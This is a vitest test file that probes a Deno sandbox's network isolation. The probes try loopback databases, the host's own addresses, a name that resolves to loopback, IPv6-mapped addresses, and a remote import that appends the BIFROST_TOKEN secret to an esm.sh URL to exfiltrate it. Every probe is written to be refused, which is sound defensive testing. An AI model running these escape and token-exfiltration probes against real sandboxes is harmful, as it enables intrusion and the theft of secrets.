import { chmod, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  attemptPrelude,
  createSandboxFixture,
  lineFor,
  type SandboxFixture,
} from "../testing/sandbox-fixture.js";
import {
  buildNetworkPolicy,
  hostInterfaceAddresses,
  type NetworkPolicy,
} from "./network-policy.js";

// The network probes of research/deno-sandbox.md §0/§2 against the real sandbox: loopback
// services (the runner's own Postgres, Redis, NATS and a server of this test on 0.0.0.0),
// a declared name that resolves to loopback, IPv6 tricks, remote-import exfiltration, and
// the one way out that must work (the SDK socket).

let fixture: SandboxFixture;
let server: Server;
let port: number;
let hostsFile: string;

const noHosts = () => buildNetworkPolicy({ workflowHosts: [], organizationHosts: [] });
const declared = (...hosts: string[]) =>
  buildNetworkPolicy({
    workflowHosts: hosts,
    organizationHosts: [],
    extraDeniedAddresses: hostInterfaceAddresses(),
  });

beforeAll(async () => {
  fixture = await createSandboxFixture();
  // Dual-stack on every address: reachable through loopback, 0.0.0.0 and this host's own IPs.
  server = createServer((socket) => socket.end("hello from the host\n"));
  await new Promise<void>((resolve) => server.listen(0, "::", resolve));
  port = (server.address() as { port: number }).port;
  const etc = await fixture.directory("etc");
  hostsFile = join(etc, "hosts");
  // A name the tenant "controls" that resolves to loopback, and two IPv6 variants of it.
  await writeFile(
    hostsFile,
    "127.0.0.1 localhost.test\n::ffff:127.0.0.1 mapped.test\nfd00::2 ula.test\n",
  );
  await chmod(hostsFile, 0o644);
});

afterAll(async () => {
  server?.close();
  await fixture?.cleanup();
});

function connectProbe(targets: Array<[label: string, host: string, port: number]>): string {
  const lines = targets.map(
    ([label, host, p]) =>
      `await attempt(${JSON.stringify(`connect ${label}`)}, async () => { const c = await Deno.connect({ hostname: ${JSON.stringify(host)}, port: ${p} }); c.close(); return "connected"; });
await attempt(${JSON.stringify(`fetch ${label}`)}, async () => (await fetch(${JSON.stringify(`http://${host.includes(":") ? `[${host}]` : host}:${p}/`)})).status);`,
  );
  return `${attemptPrelude}\n${lines.join("\n")}`;
}

const services: Array<[string, string, number]> = [
  ["postgres", "127.0.0.1", 5432],
  ["redis", "127.0.0.1", 6379],
  ["nats", "127.0.0.1", 4222],
  ["any", "0.0.0.0", 0],
  ["redis v6", "::1", 6379],
];

async function expectAllDenied(network: NetworkPolicy) {
  const targets = services.map(([l, h, p]): [string, string, number] => [l, h, p || port]);
  const result = await fixture.run({ network, hostsFile, entry: connectProbe(targets) });
  for (const [label, host, p] of targets) {
    const where = host.includes(":") ? `[${host}]:${p}` : `${host}:${p}`;
    expect(lineFor(result, `connect ${label}`)).toContain(
      `NotCapable: Requires net access to "${where}"`,
    );
    expect(lineFor(result, `fetch ${label}`)).toContain(`Requires net access to "${where}"`);
  }
  return result;
}

describe.concurrent("the sandbox's network", () => {
  test("with no declared host, Postgres, Redis, NATS and 0.0.0.0 are refused by Deno", async () => {
    await expectAllDenied(noHosts());
  });

  test("with no declared host the namespace is empty: even a granted port finds nothing", async () => {
    // Deno's layer bypassed on purpose: the kernel layer must hold on its own.
    const network = { allowNet: [`127.0.0.1:${port}`], denyNet: [], shareHostNetwork: false };
    const result = await fixture.run({
      network,
      entry: connectProbe([["granted", "127.0.0.1", port]]),
    });
    // As root, the sandbox runs in its starter's namespace, whose loopback is down and cannot
    // be brought up from inside: nothing is reachable at all. Otherwise bubblewrap's namespace
    // has a loopback with nothing listening on it.
    expect(lineFor(result, "connect granted")).toContain(
      process.getuid?.() === 0 ? "NetworkUnreachable" : "ConnectionRefused",
    );
  });

  test("with a declared host the same services are refused by --deny-net", async () => {
    await expectAllDenied(declared("api.example.com"));
  });

  test("this host's own addresses are refused too (a service on 0.0.0.0 answers there)", async () => {
    const addresses = Object.values(networkInterfaces())
      .flat()
      .filter((entry) => entry && !entry.internal && !entry.address.startsWith("fe80:"))
      .map((entry) => entry?.address as string);
    const targets = addresses.map((a): [string, string, number] => [a, a, port]);
    const result = await fixture.run({
      network: declared("api.example.com"),
      entry: connectProbe(targets),
    });
    for (const address of addresses) {
      const where = address.includes(":") ? `[${address}]:${port}` : `${address}:${port}`;
      expect(lineFor(result, `connect ${address}`)).toContain(`Requires net access to "${where}"`);
    }
  });

  test("a declared name that resolves to 127.0.0.1 is blocked after DNS", async () => {
    const result = await fixture.run({
      network: declared("localhost.test"),
      hostsFile,
      entry: connectProbe([["name", "localhost.test", port]]),
    });
    const where = `Requires net access to "127.0.0.1:${port}"`;
    expect(lineFor(result, "connect name")).toContain(`NotCapable: ${where}`);
    expect(lineFor(result, "fetch name")).toContain("TypeError: fetch failed | cause:");
    expect(lineFor(result, "fetch name")).toContain(where);
  });

  test("the same name without the deny list does reach the server (the denials are real)", async () => {
    const network = { ...declared("localhost.test"), denyNet: [] };
    const result = await fixture.run({
      network,
      hostsFile,
      entry: connectProbe([["name", "localhost.test", port]]),
    });
    expect(lineFor(result, "connect name")).toBe("connect name: ok connected");
  });

  test("IPv6 is off: names resolving to ::ffff:127.0.0.1 or a ULA cannot connect", async () => {
    const result = await fixture.run({
      network: { ...declared("mapped.test", "ula.test"), denyNet: [] },
      hostsFile,
      entry: connectProbe([
        ["mapped", "mapped.test", port],
        ["ula", "ula.test", port],
      ]),
    });
    for (const label of ["connect mapped", "connect ula"]) {
      expect(lineFor(result, label)).toContain("Address family not supported by protocol");
    }
  });

  test("remote, npm and jsr imports are refused: no exfiltration through esm.sh", async () => {
    for (const network of [noHosts(), declared("esm.sh")]) {
      const result = await fixture.run({
        network,
        entry: `${attemptPrelude}
const secret = Deno.env.get("BIFROST_TOKEN");
await attempt("esm", () => import("https://esm.sh/" + secret));
await attempt("literal", () => import("https://esm.sh/x"));
await attempt("npm", () => import("npm:left-pad"));
await attempt("jsr", () => import("jsr:@std/path"));`,
      });
      expect(lineFor(result, "esm")).toContain("but --no-remote is specified");
      expect(lineFor(result, "literal")).toContain(
        'A remote specifier was requested: "https://esm.sh/x", but --no-remote is specified',
      );
      expect(lineFor(result, "npm")).toContain("--no-npm is specified");
      expect(lineFor(result, "jsr")).toContain("--no-remote is specified");
    }
  });

  test("the SDK socket is reachable from the sandbox, with or without a network", async () => {
    for (const network of [noHosts(), declared("api.example.com")]) {
      const socketDir = await fixture.directory("socket");
      const received: string[] = [];
      const sdk = createServer((socket) =>
        socket.on("data", (data) => received.push(String(data))),
      );
      const socketPath = join(socketDir, "sdk.sock");
      await new Promise<void>((resolve) => sdk.listen(socketPath, resolve));
      // The sandbox runs as another host uid: the socket must be connectable by it.
      await chmod(socketPath, 0o666);
      const result = await fixture.run({
        network,
        socketPath,
        entry: `${attemptPrelude}
await attempt("sdk", async () => {
  const c = await Deno.connect({ transport: "unix", path: Deno.env.get("BIFROST_SOCKET") });
  await c.write(new TextEncoder().encode("hello\\n"));
  c.close();
  return "sent";
});`,
      });
      await new Promise<void>((resolve) => sdk.close(() => resolve()));
      expect(lineFor(result, "sdk")).toBe("sdk: ok sent");
      expect(received.join("")).toBe("hello\n");
    }
  });
});
